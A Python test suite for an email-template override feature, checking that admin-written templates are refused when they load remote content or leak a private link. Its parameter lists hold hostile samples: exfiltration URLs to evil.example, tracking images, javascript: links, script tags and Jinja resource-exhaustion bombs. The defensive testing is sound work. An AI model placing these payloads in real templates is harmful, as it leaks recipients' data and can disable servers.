"""Mails in the admins' own words load nothing, give the link to nobody else, and end."""

from pathlib import Path

import pytest

from notifications.examples.facts import COMMON_FACTS
from notifications.examples.occasions import occasions
from notifications.mail.catalog import EMAILS
from notifications.mail.compose import ComposeError, Composer
from notifications.mail.rules.html import broken_rule
from notifications.overrides import warnings_about
from program.files import read_folder

TEMPLATES = Path(__file__).parent.parent / "templates"
LINK = str(COMMON_FACTS["link"])
TEXT, HTML, SUBJECT = (
    f"email/received/{part}" for part in ("body.txt", "body.html", "subject.txt")
)
NEEDED = "{{ link }}\n{{ crisis_text }} {{ emergency_text }}\n"
WHOLE = '<p><a href="{{ link }}">Open</a> {{ crisis_text }} {{ emergency_text }}</p>'


def refused(name: str, source: str) -> str:
    """Return why an override is passed over."""
    composer = Composer(TEMPLATES, {name: source})
    with pytest.raises(ComposeError) as error:
        composer.compose_strictly("received", occasions("received")["as usual"])
    ours = Composer(TEMPLATES).compose("received", occasions("received")["as usual"])
    assert composer.compose("received", occasions("received")["as usual"]) == ours
    return str(error.value)


@pytest.mark.parametrize(
    "html",
    [
        "<img src='https://evil.example/{{ reference }}'>",
        "<p style='background:url(https://evil.example)'>x</p>",
        "<p style='background:u\\72l(//evil.example)'>x</p>",
        "<style>@import 'https://evil.example';</style>",
        "<style>p { background-image: image-set('a.png' 1x) }</style>",
        "<!--[if mso]><img src='https://evil.example'><![endif]-->",
        "<!--[if mso]><v:fill src='https://evil.example'/><![endif]-->",
        "<![if !mso]><img src=x><![endif]>",
        "<link rel='stylesheet' href='https://evil.example'>",
        "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
        "<body background='https://evil.example'>",
        "<svg><image href='https://evil.example'/></svg>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='//evil.example'>x</a>",
        "<a href='https://evil.example' ping='https://evil.example'>x</a>",
        "<form action='https://evil.example'><button>x</button></form>",
        "<script>1</script>",
        "<base href='https://evil.example'>",
        "<iframe src='https://evil.example'></iframe>",
        "<p onclick='x()'>x</p>",
        # Passing the link on.
        "<a href='https://evil.example/?u={{ link }}'>x</a>",
        "<a href='{{ link }}/../x'>x</a>",
        "<a href='https://evil.example/{{ link[8:] }}'>x</a>",
        "<a href='https://evil.example/{{ link|upper }}'>x</a>",
        "<a href='https://evil.example/{% for c in link %}{{ c }}.{% endfor %}'>x</a>",
        "<a href='https://evil.example/{{ link|list|sort }}'>x</a>",
        "<p title='{{ link }}'>x</p>",
        "<p class='{{ link }}'>x</p>",
    ],
)
def test_html_that_loads_something_or_passes_the_link_on_is_never_used(html: str) -> None:
    assert refused(HTML, WHOLE + html).startswith("templates/email/received")


@pytest.mark.parametrize(
    "source",
    [
        "https://evil.example/?u={{ link }}",
        "https://evil.example/{{ link[8:] }}",
        "{{ link }}@evil.example",
        "{% if 'a' in link %}https://evil.example/a{% endif %}",
    ],
)
def test_text_that_passes_the_link_on_is_never_used(source: str) -> None:
    assert refused(TEXT, NEEDED + source)
    assert "link" in refused(SUBJECT, "Hello {{ link }}")


@pytest.mark.parametrize(
    "source",
    [
        "https://evil.example/{{ department }}",
        "https://evil.example/?r={{ reference }}&w={{ wishes|length }}",
        "www.evil.example/{{ role_group|lower }}",
        "evil.example/{{ department }}",
        "{{ privacy_url }}/{{ department }}",
        "{{ privacy_url[:8] }}evil.example/{{ department|length }}",
        "https:/{{ '' }}/evil.example/{{ department }}",
        "{# https://evil.example/Surgery #}https://evil.example/{{ department }}",
        "{% if department == 'Surgery' %}https://evil.example/surgery{% endif %}",
        "{{ 'https://evil.example/1' if is_urgent else '' }}",
        "{% for wish in wishes %}https://evil.example/a {% endfor %}",
        "{% macro f() %}https://evil.example/a{% endmacro %}{% if is_urgent %}{{ f() }}{% endif %}",
    ],
)
def test_an_address_made_of_facts_is_never_used(source: str) -> None:
    """Scanners open what looks like an address, and its server reads what is in it."""
    assert refused(TEXT, NEEDED + source)
    assert refused(HTML, WHOLE + f"<p>{source}</p>")
    assert refused(HTML, WHOLE + f'<p><a href="{source}">Help</a></p>')


@pytest.mark.parametrize("fact", ["department", "role_group", "wishes[0]"])
def test_a_beginning_that_tells_a_lock_screen_more_is_never_used(fact: str) -> None:
    early, late = f"<b>{{{{ {fact} }}}}</b>{WHOLE}", f"{WHOLE}<p>{'word ' * 50}</p>{{{{ {fact} }}}}"
    assert f"says {fact.partition('[')[0]} at the beginning" in refused(HTML, early)
    assert Composer(TEMPLATES, {HTML: late}).compose_strictly("received", COMMON_FACTS)


@pytest.mark.parametrize("fact", ["department", "role_group", "wishes", "supporter_name", "legal"])
def test_a_subject_that_tells_a_lock_screen_more_is_never_used(fact: str) -> None:
    assert f"uses {fact} in the subject" in refused(SUBJECT, f"Hello {{{{ {fact} }}}}")


@pytest.mark.parametrize(
    "source",
    [
        "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
        "{% for a in legal %}{% for b in legal %}{% for c in legal %}x" + 3 * "{% endfor %}",
        "{{ 'x' * 999999999 }}",
        "{{ ('x' * 400) * 400 }}",
        "{{ 9 ** 9 ** 9 }}",
        "{{ 'x'|center(999999999) }}",
        "{{ 'x'.center(999999999) }}",
        "{{ '%999999999d'|format(1) }}",
        "{{ '%999999999d' % 1 }}",
        "{{ 'aaaa'|replace('a', legal)|replace('a', legal) }}",
        "{% set x = 'xx' %}{% set x = x ~ x %}{{ x }}",
        "{% macro f() %}{{ f() }}{{ f() }}{% endmacro %}{{ f() }}",
        "{% block x %}{{ self.x() }}{{ self.x() }}{% endblock %}",
        "{% include 'email/received/body.txt' %}",
        "{% for x in wishes recursive %}{{ loop(x) }}{% endfor %}",
        "{{ lipsum(9999) }}",
        "{{ cycler.__init__ }}",
        "{{ namespace(x=1) }}",
        "x" * 40_000,
        "{{ " + "(" * 5000,
    ],
)  # fmt: skip
def test_a_template_without_end_is_never_used(source: str) -> None:
    assert refused(TEXT, NEEDED + source).startswith("templates/email/received/body.txt: ")


def test_a_layout_cannot_refer_to_itself() -> None:
    name = "email/_layout/body.txt"
    composer = Composer(TEMPLATES, {name: f"{{% include '{name}' %}}{{% include '{name}' %}}"})
    with pytest.raises(ComposeError, match="which is replaced too"):
        composer.compose_strictly("received", COMMON_FACTS)


@pytest.mark.parametrize("name", EMAILS)
def test_a_copy_of_our_own_templates_is_fine(name: str) -> None:
    """Whoever copies a file to change a word keeps what it does."""
    message = Composer(TEMPLATES, copied(name)).compose_strictly(name, facts_of(name))
    assert broken_rule(message.html, [LINK]) == ""


@pytest.mark.parametrize("name", ["received", "several_wait", "files_wait"])
def test_a_copy_of_one_part_of_our_layout_is_fine(name: str) -> None:
    for path, text in copied("_layout").items():
        assert Composer(TEMPLATES, {path: text}).compose_strictly(name, facts_of(name)).text


def copied(folder: str) -> dict[str, str]:
    files = (TEMPLATES / "email" / folder).iterdir()
    return {path.relative_to(TEMPLATES).as_posix(): path.read_text() for path in files}


def facts_of(name: str) -> dict[str, object]:
    return next(iter(occasions(name).values()))


def test_a_link_that_leads_out_of_the_folder_is_not_read(tmp_path: Path) -> None:
    secret = tmp_path / "secrets.env"
    secret.write_text("DATA_KEYS=an-invented-key")
    templates = tmp_path / "config/templates/email/received"
    templates.mkdir(parents=True)
    (templates / "body.txt").symlink_to(secret)
    (templates / "subject.txt").symlink_to("kept.txt")
    (templates / "kept.txt").write_text("From the garden")
    (templates.parent / "offer").symlink_to(tmp_path)

    reading = read_folder(tmp_path / "config")

    assert b"invented" not in b"".join(reading.contents.values())
    assert reading.contents["templates/email/received/subject.txt"] == b"From the garden"
    told = [str(one) for one in reading.problems if "leads out of the folder" in str(one)]
    assert ["body.txt" in one for one in told if "received" in one] == [True]


def test_the_admins_are_warned_of_what_is_never_used() -> None:
    html = WHOLE + "<img src='https://evil.example/{{ reference }}'>"
    assert ["<img>" in str(warning) for warning in warnings_about({HTML: html})] == [True]


def test_a_mail_in_other_words_is_used() -> None:
    html = (
        WHOLE + "<p style='color:#333'><a href='https://help.example.org'>Help</a> {{ link }}</p>"
    )
    texts = {
        HTML: html,
        TEXT: NEEDED + "Hello {{ reader_name|title }}.",
        SUBJECT: "From the garden",
    }
    message = Composer(TEMPLATES, texts).compose_strictly("received", COMMON_FACTS)
    assert message.subject == "From the garden"
    assert "help.example.org" in message.html
    assert [w for w in warnings_about(texts) if "received" in w.file] == []
